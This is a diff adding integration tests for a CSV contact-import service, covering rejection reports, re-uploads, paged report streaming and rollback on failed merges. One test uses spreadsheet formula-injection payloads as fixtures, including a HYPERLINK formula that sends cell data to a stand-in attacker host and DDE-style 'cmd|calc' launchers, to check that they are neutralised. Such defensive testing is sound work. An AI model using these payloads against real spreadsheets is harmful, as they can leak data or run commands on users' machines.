@@ -1,5 +1,8 @@
+import { randomUUID } from 'node:crypto';
 import { ImportSweeper } from '../src/imports/import-sweeper';
-import { eventually, TestEnv } from './support/app';
+import { ImportsRepository } from '../src/imports/imports.repository';
+import { REJECTION_PAGE_BYTES } from '../src/imports/imports.service';
+import { eventually, TEST_API_KEY, TestEnv } from './support/app';
 import { client } from './support/http';
 
 /**
@@ -299,4 +302,160 @@ describe('CSV import without worker threads', () => {
     expect(done).toMatchObject({ delimiter: '\t', inserted: 1, rejected: 1, duplicates: 1 });
     expect((await api.get('/v1/contacts?phone=%2B6281211110001')).body.data[0].attributes).toEqual({ tier: 'silver' });
   });
+});
+
+describe('CSV import: reports and failures', () => {
+  let env: TestEnv;
+  let api: ReturnType<typeof client>;
+
+  beforeAll(async () => {
+    env = await TestEnv.create({ IMPORT_THREADS: '0' });
+    await env.startApi();
+    await env.startWorker();
+    api = client(env.url);
+  });
+  afterAll(() => env.close());
+
+  const count = async (sql: string, params: unknown[] = []) => Number((await env.db.query(sql, params))[0].count);
+
+  function finished(id: string, timeoutMs = 30_000) {
+    return eventually(async () => {
+      const res = await api.get(`/v1/contacts/imports/${id}`);
+      return ['completed', 'failed'].includes(res.body.status) ? res.body : undefined;
+    }, timeoutMs, `import ${id}`);
+  }
+
+  async function upload(csv: string): Promise<string> {
+    const form = new FormData();
+    form.append('defaultCountry', 'ID');
+    form.append('file', new Blob([csv]), 'a.csv');
+    const res = await api.post('/v1/contacts/imports', form);
+    expect(res.status).toBe(202);
+    return res.body.id;
+  }
+
+  it('neutralises cells a spreadsheet would run as formulas in rejected.csv, the header included', async () => {
+    const csv = [
+      'phone,=cmd|calc,note',
+      'abc,=HYPERLINK("http://evil.example/?"&A1;"click"),@SUM(1+1)',
+      "xyz,+cmd|' /C calc'!A0,-2+3",
+      "nope,\ttabbed,'=already quoted",
+      'bad,plain,ok',
+    ].join('\n') + '\n';
+    const id = await upload(csv);
+    expect(await finished(id)).toMatchObject({ status: 'completed', rejected: 4 });
+    const res = await api.get(`/v1/contacts/imports/${id}/rejected.csv`);
+    expect(res.body.split('\r\n')).toEqual([
+      "line,reason,message,phone,'=cmd|calc,note",
+      `2,phone_not_a_number,the phone is not a number,abc,"'=HYPERLINK(""http://evil.example/?""&A1;""click"")",'@SUM(1+1)`,
+      "3,phone_not_a_number,the phone is not a number,xyz,'+cmd|' /C calc'!A0,'-2+3",
+      "4,phone_not_a_number,the phone is not a number,nope,'\ttabbed,''=already quoted",
+      '5,phone_not_a_number,the phone is not a number,bad,plain,ok',
+      '',
+    ]);
+  });
+
+  it('a rejected row can be fixed in rejected.csv and uploaded again, its marked phone included', async () => {
+    const id = await upload('phone,opt_in\n+6281299990001,maybe\n');
+    expect(await finished(id)).toMatchObject({ status: 'completed', rejected: 1 });
+    const report = (await api.get(`/v1/contacts/imports/${id}/rejected.csv`)).body as string;
+    const [header, row] = report.split('\r\n');
+    expect(row).toBe("2,opt_in_invalid,opt_in is not one of yes/no/true/false/1/0/y/n/ya/tidak,'+6281299990001,maybe");
+    // The person fixes the cell, drops the three report columns and uploads the file again.
+    const fixed = [header, row.replace(',maybe', ',yes')].map((line) => line.split(',').slice(3).join(',')).join('\n') + '\n';
+    const again = await upload(fixed);
+    expect(await finished(again)).toMatchObject({ status: 'completed', inserted: 1, rejected: 0 });
+    expect((await api.get('/v1/contacts?phone=%2B6281299990001')).body.data).toHaveLength(1);
+  });
+
+  it('streams a large rejection report exactly, reading it in pages bounded in bytes', async () => {
+    // A completed import with 120 rejected rows of about 60 KiB each (7 MB): a few rows per page.
+    const id = randomUUID();
+    const rows = 120;
+    await env.db.query(
+      `INSERT INTO contact_imports (id, status, file_bytes, file_sha256, delimiter, header, phone_column, opt_in_scope, rejected)
+       VALUES ($1, 'completed', 0, 'x', ',', '{phone,a,b}', 'phone', 'marketing', $2)`,
+      [id, rows],
+    );
+    await env.db.query(
+      `INSERT INTO contact_import_rejections (import_id, line, reason, fields)
+       SELECT $1, g, 'phone_invalid', ARRAY[$2 || g, repeat(chr(97 + g % 26), 30000), repeat('z', 30000)] FROM generate_series(2, $3::int + 1) g`,
+      [id, 'bad-', rows],
+    );
+    const expected = ['line,reason,message,phone,a,b'];
+    for (let g = 2; g <= rows + 1; g++) {
+      expected.push(`${g},phone_invalid,not a valid phone number in its country,bad-${g},${String.fromCharCode(97 + (g % 26)).repeat(30000)},${'z'.repeat(30000)}`);
+    }
+    const scansBefore = await indexScans();
+    const res = await fetch(`${env.url}/v1/contacts/imports/${id}/rejected.csv`, { headers: { authorization: `Bearer ${TEST_API_KEY}` } });
+    expect(res.status).toBe(200);
+    const text = await res.text();
+    expect(text.length).toBe(expected.join('\r\n').length + 2);
+    expect(text === expected.join('\r\n') + '\r\n').toBe(true);
+
+    // The pages the report is read in: none over the byte budget by more than its last row.
+    const repo = env.get(ImportsRepository);
+    let after = 0;
+    const sizes: number[] = [];
+    for (;;) {
+      const page = await repo.rejectionPage(id, after, 5000, REJECTION_PAGE_BYTES);
+      if (page.length === 0) break;
+      const bytes = page.map((r) => r.fields.join(',').length);
+      expect(bytes.slice(0, -1).reduce((a, b) => a + b, 0)).toBeLessThan(REJECTION_PAGE_BYTES);
+      sizes.push(page.length);
+      after = page[page.length - 1].line;
+    }
+    expect(sizes.reduce((a, b) => a + b, 0)).toBe(rows);
+    expect(Math.max(...sizes)).toBeLessThanOrEqual(Math.ceil(REJECTION_PAGE_BYTES / 60_000) + 1);
+    // And the download read them so too: several index scans of the rejections, not one or two.
+    // (PostgreSQL publishes a session's statistics within about ten seconds.)
+    await eventually(async () => ((await indexScans()) - scansBefore >= 6 ? true : undefined), 20_000, 'the download to have read several pages');
+  }, 60_000);
+
+  async function indexScans(): Promise<number> {
+    const [row] = await env.db.query(`SELECT coalesce(idx_scan, 0)::int AS n FROM pg_stat_user_tables WHERE relname = 'contact_import_rejections'`);
+    return row.n;
+  }
+
+  it('merges nothing when the merge itself fails part way, retries from a clean state, and fails in the end', async () => {
+    // Consent events of this file cannot be recorded: the merge fails after inserting its contacts.
+    await env.db.query(`
+      CREATE FUNCTION refuse_exploding_consent() RETURNS trigger LANGUAGE plpgsql AS $$
+      BEGIN
+        IF NEW.wording = 'explode' THEN RAISE EXCEPTION 'consent ledger unavailable'; END IF;
+        RETURN NEW;
+      END $$`);
+    await env.db.query(`CREATE TRIGGER refuse_exploding_consent BEFORE INSERT ON consent_events FOR EACH ROW EXECUTE FUNCTION refuse_exploding_consent()`);
+    try {
+      const contacts = await count(`SELECT count(*) FROM contacts`);
+      const events = await count(`SELECT count(*) FROM consent_events`);
+      const lines = ['phone,name,opt_in,opt_in_text'];
+      for (let i = 0; i < 500; i++) lines.push(`0812${String(77_000_000 + i).padStart(8, '0')},Boom ${i},yes,explode`);
+      lines.push('not-a-phone,Bad,yes,explode');
+      const id = await upload(lines.join('\n') + '\n');
+
+      // Between attempts: given back to the queue, nothing merged, the file kept for the retry.
+      const between = await eventually(async () => {
+        const [row] = await env.db.query(`SELECT status, attempts FROM contact_imports WHERE id = $1`, [id]);
+        return row.status === 'queued' && row.attempts >= 1 ? row : undefined;
+      }, 30_000, 'the first attempt to fail');
+      expect(between.status).toBe('queued');
+      expect(await count(`SELECT count(*) FROM contacts`)).toBe(contacts);
+      expect(await count(`SELECT count(*) FROM consent_events`)).toBe(events);
+      expect(await count(`SELECT count(*) FROM contact_import_rejections WHERE import_id = $1`, [id])).toBe(0);
+      expect(await count(`SELECT count(*) FROM contact_import_chunks WHERE import_id = $1`, [id])).toBe(1);
+
+      // After the last attempt: failed with a reason, still nothing merged, the file removed.
+      const result = await finished(id, 60_000);
+      expect(result).toMatchObject({ status: 'failed', inserted: 0, rejected: 0, consentEvents: 0, error: { code: 'IMPORT_INTERNAL_ERROR' } });
+      expect((await env.db.query(`SELECT attempts FROM contact_imports WHERE id = $1`, [id]))[0].attempts).toBe(3);
+      expect(await count(`SELECT count(*) FROM contacts`)).toBe(contacts);
+      expect(await count(`SELECT count(*) FROM consent_events`)).toBe(events);
+      expect(await count(`SELECT count(*) FROM contact_import_rejections WHERE import_id = $1`, [id])).toBe(0);
+      expect(await count(`SELECT count(*) FROM contact_import_chunks WHERE import_id = $1`, [id])).toBe(0);
+    } finally {
+      await env.db.query(`DROP TRIGGER refuse_exploding_consent ON consent_events`);
+      await env.db.query(`DROP FUNCTION refuse_exploding_consent()`);
+    }
+  }, 90_000);
 });
